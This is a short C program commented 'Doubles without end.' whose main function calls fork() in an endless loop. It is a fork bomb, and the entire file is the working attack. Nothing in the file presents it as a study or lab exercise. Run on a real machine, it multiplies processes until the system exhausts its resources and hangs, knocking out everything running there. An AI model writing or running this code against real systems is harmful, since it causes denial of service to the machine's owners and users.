// Doubles without end.
#include "tell.h"
int main() {
    for (;;) fork();
}
